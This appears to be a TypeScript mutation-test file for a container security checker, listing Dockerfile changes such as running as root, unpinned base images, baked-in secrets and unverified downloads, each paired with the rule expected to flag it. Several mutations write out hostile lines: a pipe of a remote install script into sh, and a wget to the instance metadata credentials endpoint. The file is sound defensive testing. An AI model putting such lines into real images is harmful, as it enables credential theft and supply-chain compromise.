/** Mutations of what goes into the image. */
import { after, append, before, remove, replace, without, type Mutation } from './edits.ts';

const file = 'Dockerfile';
const digest = 'a'.repeat(64);

export const image: readonly Mutation[] = [
  ['the image says nothing of a user', without(file, 'USER'), 'image/user-is-not-root'],
  ['the image runs as root by name', replace(file, 'USER 10001:10001', 'USER root'), 'image/user-is-not-root'],
  ['the image runs as root by number', replace(file, 'USER 10001:10001', 'USER 0:10001'), 'image/user-is-not-root'],
  ['the image goes back to root at its end', append(file, 'USER 00'), 'image/user-is-not-root'],
  [
    'the base image is a moving tag',
    replace(file, 'FROM scratch', 'FROM busybox:latest'),
    'supply-chain/base-images-are-pinned',
  ],
  [
    'the base image is a version',
    replace(file, 'FROM scratch', 'FROM alpine:3.22.1'),
    '(supply-chain/base-images-are-pinned)',
  ],
  ['the base image is pinned by digest', replace(file, 'FROM scratch', `FROM alpine:3.22.1@sha256:${digest}`)],
  [
    'a secret is baked in as an environment variable',
    before(file, 'USER', 'ENV PROVIDER_TOKEN=Zx81-hjKq0-44ff-0Lmwq'),
    'no-long-term-secrets/images-are-built-without-secrets',
  ],
  [
    'a secret is a build argument',
    after(file, 'ARG VERSION', 'ARG PROVIDER_TOKEN'),
    'no-long-term-secrets/images-are-built-without-secrets',
  ],
  [
    'a secret build argument becomes environment',
    after(file, 'ARG VERSION', 'ARG AWS_SECRET_ACCESS_KEY', 'ENV AWS_SECRET_ACCESS_KEY=$AWS_SECRET_ACCESS_KEY'),
    'no-long-term-secrets/images-are-built-without-secrets',
  ],
  [
    'a file of secrets is copied in',
    before(file, 'USER', 'COPY .env /srv/.env'),
    'no-long-term-secrets/images-take-no-secret-files',
  ],
  [
    'the whole folder is copied in, and nothing is left out',
    (files) => before(file, 'USER', 'COPY . /srv/')(remove('.dockerignore')(files)),
    '(no-long-term-secrets/images-take-no-secret-files)',
  ],
  [
    'a secret is mounted for one step',
    before(file, 'USER', 'RUN --mount=type=secret,id=PROVIDER_TOKEN /bin/busybox cat /run/secrets/PROVIDER_TOKEN'),
  ],
  [
    'a file is fetched without a checksum',
    before(file, 'USER', 'ADD https://example.com/tool /bin/tool'),
    '(supply-chain/downloads-are-verified)',
  ],
  [
    'a script from the internet is run while the image is built',
    before(file, 'USER', 'RUN wget -qO- http://example.com/install.sh | sh'),
    '(supply-chain/downloads-are-verified)',
  ],
  [
    'the code asks instance metadata for credentials',
    after(
      'site/cgi-bin/reflectance',
      '#!/bin/busybox sh',
      '/bin/busybox wget -q -O - http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    ),
    'imds-mitigation/code-asks-for-metadata-tokens',
  ],
];
